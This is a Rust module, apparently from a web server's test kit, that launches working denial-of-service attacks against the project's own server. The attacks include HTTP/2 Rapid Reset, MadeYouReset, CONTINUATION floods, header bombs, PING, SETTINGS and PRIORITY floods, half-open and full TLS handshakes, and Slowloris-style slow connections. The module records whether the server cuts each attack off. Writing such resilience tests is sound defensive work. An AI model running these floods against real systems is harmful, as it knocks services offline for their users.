//! The attacks: what each sends, and how it finds out that it was cut.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use evenkeel_testkit::http2::{Frame, Http2, PREFACE, fields, flag, get, kind, post, settings_payload};
use rustix::event::{PollFd, PollFlags, Timespec, poll};

/// What an attack goes against.
pub(super) struct Target {
    pub(super) plain: SocketAddr,
    pub(super) secure: SocketAddr,
    pub(super) trust: Arc<rustls::ClientConfig>,
    pub(super) until: Instant,
    pub(super) begun: AtomicU64,
    pub(super) cut: AtomicU64,
}

impl Target {
    fn goes_on(&self) -> bool {
        Instant::now() < self.until
    }

    fn begin(&self) {
        self.begun.fetch_add(1, Ordering::Relaxed);
    }

    fn was_cut(&self) {
        self.cut.fetch_add(1, Ordering::Relaxed);
    }
}

/// One way to do harm.
pub(super) struct Attack {
    pub(super) name: &'static str,
    what: &'static str,
    /// One of these must be counted; none where nothing is.
    pub(super) metrics: &'static [&'static str],
    pub(super) threads: usize,
    /// It ends with timeouts, so it goes on for so many seconds at least.
    pub(super) lasts: u64,
    how: How,
}

enum How {
    /// Frames of HTTP/2, by the number of the turn, until the connection is cut; and again on the next one.
    Frames(fn(u32) -> Vec<Frame>),
    Other(fn(&Target)),
}

impl Attack {
    const fn of_frames(name: &'static str, what: &'static str, batch: fn(u32) -> Vec<Frame>) -> Self {
        Self { name, what, metrics: &["http2_floods"], threads: 2, lasts: 0, how: How::Frames(batch) }
    }

    const fn other(
        name: &'static str,
        what: &'static str,
        metrics: &'static [&'static str],
        run: fn(&Target),
    ) -> Self {
        Self { name, what, metrics, threads: 1, lasts: 0, how: How::Other(run) }
    }

    const fn told_by(self, metrics: &'static [&'static str]) -> Self {
        Self { metrics, ..self }
    }

    const fn in_threads(self, threads: usize) -> Self {
        Self { threads, ..self }
    }

    const fn for_at_least(self, seconds: u64) -> Self {
        Self { lasts: seconds, ..self }
    }

    /// What is done, in words.
    pub(super) fn what(&self) -> String {
        match self.how {
            How::Frames(_) => format!(
                "{} {} connections at a time; one that is cut is opened again after {AGAIN:?}.",
                self.what, self.threads
            ),
            How::Other(_) => self.what.to_owned(),
        }
    }

    /// One of its threads.
    pub(super) fn run(&self, target: &Target) {
        match self.how {
            How::Frames(batch) => flood(target, batch),
            How::Other(run) => run(target),
        }
    }
}

/// Batches between two pauses, the pause, and that before the next connection.
const BURST: u32 = 50;
const BREATH: Duration = Duration::from_millis(2);
const AGAIN: Duration = Duration::from_millis(20);
/// Bursts that are put together before the first connection: nearly all are cut within them.
const READY: u32 = 16;

/// Seconds in which a timeout of a minute shows, and in which two do, one after the other: that of the requests, and that of a
/// connection without any.
pub(super) const ONE_TIMEOUT: u64 = 75;
pub(super) const TWO_TIMEOUTS: u64 = 140;

/// What the kernel may hold for an attacker that does not read.
const RECEIVE_BUFFER: usize = 16 * 1024;

/// All of them.
pub(super) const ATTACKS: &[Attack] = &[
    Attack::of_frames("Rapid Reset (CVE-2023-44487)", "Requests are opened and reset.", |turn| {
        vec![head(2 * turn + 1, "/", true), Frame::new(kind::RST_STREAM, 0, 2 * turn + 1, [0, 0, 0, 8])]
    }),
    Attack::of_frames(
        "MadeYouReset: a window of 0 (CVE-2025-8671)",
        "Requests, each with a WINDOW_UPDATE of 0.",
        |turn| vec![head(2 * turn + 1, "/", true), Frame::new(kind::WINDOW_UPDATE, 0, 2 * turn + 1, [0; 4])],
    ),
    Attack::of_frames(
        "MadeYouReset: an overflowing window",
        "Requests, each with a WINDOW_UPDATE beyond what a window may be.",
        |turn| {
            vec![
                head(2 * turn + 1, "/", true),
                Frame::new(kind::WINDOW_UPDATE, 0, 2 * turn + 1, [127, 255, 255, 255]),
            ]
        },
    ),
    Attack::of_frames(
        "MadeYouReset: DATA behind the end",
        "Requests that have ended, each with content behind its end.",
        |turn| vec![head(2 * turn + 1, "/", true), Frame::new(kind::DATA, 0, 2 * turn + 1, [b'x'])],
    ),
    Attack::of_frames(
        "MadeYouReset: a stream that depends on itself",
        "Requests, each with a PRIORITY that names itself.",
        |turn| {
            let stream = 2 * turn + 1;
            let mut payload = stream.to_be_bytes().to_vec();
            payload.push(16);
            vec![head(stream, "/", true), Frame::new(kind::PRIORITY, 0, stream, payload)]
        },
    ),
    Attack::of_frames(
        "CONTINUATION without end (CVE-2024-27316)",
        "A head that never ends, in small pieces.",
        |turn| match turn {
            0 => vec![Frame::new(kind::HEADERS, 0, 1, fields(get("/")))],
            _ => vec![Frame::new(kind::CONTINUATION, 0, 1, fields([("a", "b")]))],
        },
    ),
    Attack::of_frames(
        "CONTINUATION of 16 KiB each",
        "The same, in pieces as large as frames may be.",
        |turn| match turn {
            0 => vec![Frame::new(kind::HEADERS, 0, 1, fields(get("/")))],
            _ => vec![Frame::new(kind::CONTINUATION, 0, 1, fields([("a", &*"b".repeat(16_000))]))],
        },
    ),
    Attack::of_frames(
        "Header bomb",
        "One field is put into the table and named 12,000 times by a byte each; every window \
         is shut.",
        |turn| vec![bomb(2 * turn + 1, "x", &"v".repeat(3000))],
    )
    .told_by(&["http2_floods", "head-too-large", "too-many-headers"]),
    Attack::of_frames("Cookie bomb", "The same with crumbs of cookies.", |turn| {
        vec![bomb(2 * turn + 1, "cookie", "a")]
    })
    .told_by(&["http2_floods", "head-too-large", "too-many-headers"]),
    Attack::of_frames("Empty DATA (CVE-2019-9518)", "Content in frames of no byte.", |turn| match turn {
        0 => vec![Frame::new(kind::HEADERS, flag::END_HEADERS, 1, fields(post("/")))],
        _ => vec![Frame::new(kind::DATA, 0, 1, "")],
    }),
    Attack::of_frames("Tiny DATA", "Content in frames of one byte.", |turn| match turn {
        0 => vec![Frame::new(kind::HEADERS, flag::END_HEADERS, 1, fields(post("/")))],
        _ => vec![Frame::new(kind::DATA, 0, 1, "x")],
    }),
    Attack::of_frames("PING (CVE-2019-9512)", "Questions that must be answered.", |_| {
        vec![Frame::new(kind::PING, 0, 0, [0; 8])]
    }),
    Attack::of_frames("SETTINGS (CVE-2019-9515)", "Settings that must be confirmed.", |_| {
        vec![Frame::new(kind::SETTINGS, 0, 0, settings_payload(&[(4, 65_535)]))]
    }),
    Attack::of_frames("PRIORITY (CVE-2019-9513)", "Priorities of streams that do not exist.", |turn| {
        vec![Frame::new(kind::PRIORITY, 0, 2 * turn + 1, [0, 0, 0, 0, 16])]
    }),
    Attack::of_frames("WINDOW_UPDATE (CVE-2019-9511)", "A window that is opened by a byte.", |_| {
        vec![Frame::new(kind::WINDOW_UPDATE, 0, 0, [0, 0, 0, 1])]
    }),
    Attack::other(
        "Half-open handshakes",
        "2000 connections that send the beginning of a ClientHello.",
        &["tls_failures"],
        |target| hold(target.secure, target, 2000, b"\x16\x03\x01\x02\x00\x01", Trickle::Nothing),
    ),
    Attack::other(
        "Full handshakes",
        "200 whole handshakes a second without resumption, each connection closed at once by \
         the attacker. Such a handshake is allowed, and costs a signature; what is bounded is \
         how many are under way (`max-handshakes`), so nobody is cut and nothing is counted \
         as a failure.",
        &[],
        handshakes,
    )
    .in_threads(2),
    Attack::other(
        "Renegotiation of TLS 1.2",
        "openssl asks for a new handshake on an open connection, ten times a second. There is \
         no renegotiation here: the library refuses it, and no metric counts it.",
        &[],
        renegotiate,
    ),
    Attack::other(
        "Connections that say nothing",
        "2000 connections without a byte.",
        &["header-timeout", "silent"],
        |target| hold(target.plain, target, 2000, b"", Trickle::Nothing),
    ),
    Attack::other(
        "Slow heads",
        "1000 connections that send a byte of a head each second.",
        &["header-timeout"],
        |target| hold(target.plain, target, 1000, b"GET / HTTP/1.1\r\nHost: a\r\nX: ", Trickle::Byte),
    ),
    Attack::other(
        "Slow bodies",
        "1000 connections that send a byte of a body each second.",
        &["body-too-slow"],
        |target| {
            hold(
                target.plain,
                target,
                1000,
                b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n",
                Trickle::Byte,
            );
        },
    ),
    Attack::other(
        "Slow readers, HTTP/1.1",
        "500 connections that ask for 64 MiB and read a byte each second.",
        &["slow_readers"],
        |target| {
            hold(target.plain, target, 500, b"GET /files/big HTTP/1.1\r\nHost: a\r\n\r\n", Trickle::Read);
        },
    )
    .for_at_least(ONE_TIMEOUT),
    Attack::other(
        "Stalled streams, HTTP/2",
        "10 connections with 100 requests for 64 MiB each, every window as large as it may \
         be, and nothing read.",
        &["slow_readers"],
        |target| hold(target.plain, target, 10, &stalled(1 << 30), Trickle::Nothing),
    )
    .for_at_least(TWO_TIMEOUTS),
    Attack::other(
        "Shut windows, HTTP/2",
        "10 connections with 100 requests for 64 MiB each, the windows of which stay shut.",
        &["slow_readers"],
        |target| hold(target.plain, target, 10, &stalled(0), Trickle::Nothing),
    )
    .for_at_least(TWO_TIMEOUTS),
    Attack::other(
        "Slow heads, HTTP/2",
        "500 connections that send a byte of a head each second.",
        &["http2_floods", "header-timeout"],
        |target| hold(target.plain, target, 500, &half_head(), Trickle::Byte),
    )
    .for_at_least(ONE_TIMEOUT),
];

/// What a connection that is held does each second.
#[derive(Clone, Copy)]
enum Trickle {
    Nothing,
    Byte,
    Read,
}

/// The bytes of so many turns.
fn burst(turns: std::ops::Range<u32>, batch: fn(u32) -> Vec<Frame>) -> Vec<u8> {
    turns.flat_map(batch).flat_map(|frame| frame.bytes()).collect()
}

/// Sends frames until the connection is cut, again and again.
fn flood(target: &Target, batch: fn(u32) -> Vec<Frame>) {
    // To put them together takes milliseconds of a processor, and the attacker's is another one than ours.
    let ready: Vec<Vec<u8>> =
        (0..READY).map(|place| burst(place * BURST..(place + 1) * BURST, batch)).collect();
    while target.goes_on() {
        let Ok(mut client) = Http2::connect(target.plain) else {
            std::thread::sleep(AGAIN);
            continue;
        };
        target.begin();
        let mut turn = 0;
        let mut open = client.greet(&[]).is_ok();
        while open && target.goes_on() {
            let place = (turn / BURST) as usize;
            open = match ready.get(place) {
                Some(bytes) => client.send(bytes).is_ok(),
                None => client.send(burst(turn..turn + BURST, batch)).is_ok(),
            };
            turn += BURST;
            std::thread::sleep(BREATH);
        }
        if !open {
            target.was_cut();
        }
        client.hang_up();
        std::thread::sleep(AGAIN);
    }
}

/// Opens connections that stay, and counts those that the other side ends.
fn hold(address: SocketAddr, target: &Target, count: usize, first: &[u8], trickle: Trickle) {
    let mut held = Vec::new();
    for _ in 0..count {
        let Ok(mut stream) = TcpStream::connect(address) else { continue };
        // As one who wants to hold much without holding any of it himself.
        let _smaller = rustix::net::sockopt::set_socket_recv_buffer_size(&stream, RECEIVE_BUFFER);
        // One whose beginning is not taken is found to be cut below.
        let _sent = stream.write_all(first);
        if stream.set_nonblocking(true).is_ok() {
            target.begin();
            held.push(stream);
        }
    }
    while target.goes_on() && !held.is_empty() {
        std::thread::sleep(Duration::from_secs(1));
        held.retain_mut(|stream| {
            let lives = lives(stream, trickle);
            if !lives {
                target.was_cut();
            }
            lives
        });
    }
}

fn lives(stream: &mut TcpStream, trickle: Trickle) -> bool {
    let would_block = |error: &std::io::Error| error.kind() == ErrorKind::WouldBlock;
    let broken = matches!(stream.take_error(), Ok(Some(_)) | Err(_));
    let mut byte = [0];
    let done = match trickle {
        Trickle::Byte => stream.write(b"x"),
        Trickle::Read => stream.read(&mut byte),
        Trickle::Nothing => Ok(1),
    };
    // An answer that waits is one that says why; the end may be behind it.
    let mut looked = [PollFd::new(stream, PollFlags::RDHUP)];
    let told = poll(&mut looked, Some(&Timespec::default())).is_ok();
    let hung_up = told && looked[0].revents().intersects(PollFlags::RDHUP | PollFlags::HUP);
    let peeked = stream.peek(&mut byte);
    let ended = hung_up || matches!(peeked, Ok(0)) || peeked.is_err_and(|error| !would_block(&error));
    !(broken || ended || matches!(done, Ok(0)) || done.is_err_and(|error| !would_block(&error)))
}

fn head(stream: u32, path: &str, ends: bool) -> Frame {
    let flags = flag::END_HEADERS | if ends { flag::END_STREAM } else { 0 };
    Frame::new(kind::HEADERS, flags, stream, fields(get(path)))
}

/// A head with a field that is put into the table and then named by a byte each time (RFC 7541 §6.1, §6.2.1).
fn bomb(stream: u32, name: &str, value: &str) -> Frame {
    let mut block = fields(get("/"));
    block.push(0x40);
    block.extend(fields([(name, value)]).iter().skip(1));
    block.resize(block.len() + 12_000, 0xbe);
    Frame::new(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, stream, block)
}

/// A greeting with this window, and a hundred requests.
fn stalled(window: u32) -> Vec<u8> {
    let mut bytes = PREFACE.to_vec();
    let mut frames = vec![Frame::new(kind::SETTINGS, 0, 0, settings_payload(&[(4, window)]))];
    if window > 0 {
        frames.push(Frame::new(kind::WINDOW_UPDATE, 0, 0, window.to_be_bytes()));
    }
    frames.extend((0..100).map(|place| head(2 * place + 1, "/files/big", true)));
    bytes.extend(frames.iter().flat_map(Frame::bytes));
    bytes
}

/// A greeting, and a head of which most is missing; each byte that follows is a part of its content.
fn half_head() -> Vec<u8> {
    let mut bytes = PREFACE.to_vec();
    bytes.extend(Frame::new(kind::SETTINGS, 0, 0, []).bytes());
    let whole = Frame::new(kind::HEADERS, flag::END_HEADERS, 1, vec![0; 1000]).bytes();
    bytes.extend(whole.iter().take(20));
    bytes
}

fn handshakes(target: &Target) {
    while target.goes_on() {
        // A new configuration has no sessions to resume.
        let trust = Arc::new((*target.trust).clone());
        if Http2::connect_tls(target.secure, "test.example", trust).is_ok() {
            target.begin();
        }
        std::thread::sleep(Duration::from_millis(10));
    }
}

fn renegotiate(target: &Target) {
    while target.goes_on() {
        // To start it takes milliseconds of a processor, and the attacker's is another one than ours: it comes last.
        let started = Command::new("chrt")
            .args(["-i", "0", "openssl", "s_client", "-tls1_2", "-connect", &target.secure.to_string()])
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn();
        let Ok(mut child) = started else { return };
        target.begin();
        std::thread::sleep(Duration::from_millis(60));
        // `R` on a line of its own asks for a new handshake.
        let asked = child.stdin.take().map(|mut stdin| stdin.write_all(b"R\n").is_ok());
        if asked.is_some() && child.wait().is_ok_and(|status| !status.success()) {
            target.was_cut();
        }
        std::thread::sleep(Duration::from_millis(40));
    }
}
